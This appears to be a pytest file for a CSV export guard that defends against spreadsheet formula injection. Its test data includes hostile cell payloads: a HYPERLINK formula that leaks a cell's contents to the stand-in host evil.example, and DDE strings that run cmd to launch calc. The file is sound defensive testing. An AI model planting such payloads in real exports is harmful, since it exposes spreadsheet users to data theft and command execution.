"""Cells a spreadsheet would run as formulas come back from the csv module as text, guard first."""

import csv
import io

import pytest

from labeling.exports.csv_safe import csv_lines, guard

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "=cmd|' /C calc'!A0",
    "=bad",
    "=ID8",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_every_formula_prefix_is_neutralised_and_the_text_kept(cell):
    text = "".join(csv_lines([{"name": cell, "n": 3}], ["name", "n"]))

    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))

    assert row == {"name": "'" + cell, "n": "3"}


def test_plain_text_numbers_and_quotes_pass_unchanged():
    rows = [{"a": 'a, "quoted" gem', "b": -1.5, "c": None}, {"a": "x=1", "b": 0, "c": "ok"}]

    text = "".join(csv_lines(rows, ["a", "b", "c"]))

    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a", "b", "c"], ['a, "quoted" gem', "-1.5", ""], ["x=1", "0", "ok"],
    ]  # fmt: skip
    assert guard(-1.5) == -1.5  # a number is a value, never a formula


def test_a_hostile_column_name_is_guarded_too():
    text = "".join(csv_lines([], ["=bad"]))

    assert next(csv.reader(io.StringIO(text))) == ["'=bad"]
